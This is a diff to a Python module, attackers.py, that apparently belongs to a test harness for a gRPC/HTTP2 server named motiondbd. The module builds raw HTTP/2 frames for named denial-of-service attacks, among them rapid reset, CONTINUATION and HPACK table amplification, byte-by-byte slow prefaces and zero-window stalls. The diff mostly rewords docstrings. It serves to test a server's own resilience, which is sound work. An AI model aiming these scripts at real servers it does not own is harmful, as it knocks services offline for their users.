@@ -1,4 +1,5 @@
-"""Attacks on the ports of motiondbd, by name: what each sends on one connection (attackers.py)."""
+"""Attacks on the ports of motiondbd, by name: the bytes of each attack on one connection
+(attackers.py)."""
 
 import itertools
 import struct
@@ -11,25 +12,25 @@ from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL
 
 HEADER_TABLE_SIZE = 1  # a setting
 CANCEL = struct.pack(">I", 8)
-BLOCK = 16384  # most bytes of a frame
+BLOCK = 16384  # maximum bytes of a frame
 METADATA_LIMIT = 8192  # CallLimitOptions: names, values and 32 bytes for each field
 LIST = request_headers("DatabaseService/ListDatabases")
 RECOGNIZE = request_headers("QueryService/Recognize")
 PLAIN = header("x-field", "v" * 1000) * 16
 LETTERS = header("a", "") * (BLOCK // 4)
-# An entry that nearly fills the dynamic table; then each byte stands for its 4 KB.
+# This entry nearly fills the dynamic table; each later byte refers to its 4 KB.
 TABLE_ENTRY = indexed_header("a", "v" * 4000)
 INSERTS = b"".join(indexed_header(f"n{i:04}", "") for i in range(BLOCK // 8))
 
 
 def start(*settings):
-    """Begins a connection, with settings as pairs of a number and a value."""
+    """Begins a connection. Settings are pairs of number and value."""
     payload = b"".join(struct.pack(">HI", *pair) for pair in settings)
     return START + frame(SETTINGS, 0, 0, payload)
 
 
 def repeat(chunk, first=start()):
-    """A script that sends `first` once, and the chunk over and over, in pieces that are large enough."""
+    """Returns a script that sends `first` once, then the chunk repeatedly, in large pieces."""
     many = chunk * max(1, 65536 // len(chunk))
 
     def script(_connection, _aim):
@@ -40,7 +41,7 @@ def repeat(chunk, first=start()):
 
 
 def once(data, pause=1.0):
-    """A script that sends this and holds the connection."""
+    """Returns a script that sends the data and keeps the connection open."""
     def script(_connection, _aim):
         yield data
         while True:
@@ -49,7 +50,7 @@ def once(data, pause=1.0):
 
 
 def byte_by_byte(data, pause, rest=b"x"):
-    """A script that sends a byte every `pause` seconds, at last those of `rest` over and over."""
+    """Returns a script that sends one byte every `pause` seconds; repeats `rest` at the end."""
     def script(_connection, _aim):
         for byte in itertools.chain(data, itertools.cycle(rest)):
             yield bytes([byte])
@@ -58,7 +59,7 @@ def byte_by_byte(data, pause, rest=b"x"):
 
 
 def per_stream(chunk, count=50):
-    """A script of chunk(stream) for stream after stream, `count` at a time."""
+    """Returns a script that sends chunk(stream) for successive streams, `count` at a time."""
     def script(_connection, _aim):
         yield start()
         for first in itertools.count(1, 2 * count):
@@ -71,19 +72,19 @@ def continuation(filler, entry=b""):
 
 
 def call(stream, block, end=END_STREAM):
-    """Headers of any size and an empty message; without `end` the message is still to come."""
+    """Returns headers of any size and an empty message; without `end` the message is not sent."""
     message = frame(DATA, END_STREAM, stream, http2.message(b"")) if end else b""
     return header_frames(0, stream, block) + message
 
 
 def calls_with(*fillers, count=1, end=END_STREAM):
-    """Calls with these further fields, in turn."""
+    """Returns a script of calls with these extra header fields, in turn."""
     return per_stream(
         lambda stream: call(stream, LIST + fillers[stream // 2 % len(fillers)], end), count)
 
 
 def of_limit():
-    """Fields that take a call's metadata to the limit."""
+    """Returns fields that bring the metadata of a call to the limit."""
     own = [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
            (":path", "/motiondb.v1.DatabaseService/ListDatabases"),
            ("content-type", "application/grpc"), ("te", "trailers")]
@@ -97,13 +98,14 @@ def reset(stream):
 
 
 def made_to_reset(stream):
-    """The server resets the call: a window must not grow by 0."""
+    """The server resets the call, because a window must not grow by 0."""
     return (frame(HEADERS, END_HEADERS, stream, LIST) +
             frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))
 
 
 def allowed_resets(_connection, _aim):
-    """3000 calls are cancelled in 6 s: what came too late for a robot. The connection stays."""
+    """Cancels 3000 calls in 6 s, as a robot does with late answers. The connection must stay
+    open."""
     yield start()
     for first in range(1, 6001, 100):
         yield b"".join(reset(first + 2 * i) for i in range(50))
@@ -125,7 +127,7 @@ def partial_messages(connection, _aim):
 
 
 def trickle(_connection, _aim):
-    """A hundred messages, a byte at a time."""
+    """Sends a hundred messages, one byte at a time."""
     streams = range(1, 200, 2)
     yield start() + b"".join(
         frame(HEADERS, END_HEADERS, stream, RECOGNIZE) + frame(DATA, 0, stream, PART[:5])
@@ -136,7 +138,7 @@ def trickle(_connection, _aim):
 
 
 def zero_window(_connection, aim):
-    """Asks for all states of the model, with a valid token, and takes nothing."""
+    """Requests all states of the model with a valid token and reads nothing."""
     token = [("authorization", "Bearer " + aim.token)] if aim.token else []
     headers = request_headers("ModelService/ReadStates", *token)
     name = f"databases/{aim.database}/models/current".encode()
@@ -149,7 +151,7 @@ def zero_window(_connection, aim):
 
 
 def settings_of_many_streams(_connection, _aim):
-    """Each change of the window concerns every stream that is open."""
+    """Each change of the window applies to all open streams."""
     yield start() + b"".join(frame(HEADERS, END_HEADERS, stream, RECOGNIZE)
                              for stream in range(1, 200, 2))
     payload = b"".join(struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535 + i % 2) for i in range(6))
@@ -161,7 +163,7 @@ def handshakes(_connection, _aim):
     yield START
 
 
-# The begin of one of 512 bytes.
+# The beginning of a ClientHello of 512 bytes.
 CLIENT_HELLO = bytes.fromhex("16030102000100" "01fc0303") + bytes(range(32))
 SETTINGS_FRAME = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))
 TABLE_SIZES = b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", HEADER_TABLE_SIZE, size))
@@ -189,7 +191,7 @@ ATTACKS = {
     "rapid-reset": Attack(per_stream(reset)),
     "rapid-reset-unread": Attack(per_stream(reset), reads=False),
     "rapid-reset-by-server": Attack(per_stream(made_to_reset)),
-    "allowed-resets": Attack(allowed_resets, most_attackers=1, allowed=True),
+    "allowed-resets": Attack(allowed_resets, max_attackers=1, allowed=True),
     "slow-preface": Attack(byte_by_byte(START, 0.5), sockets=32),
     "partial-messages": Attack(partial_messages),
     "partial-trickle": Attack(trickle),
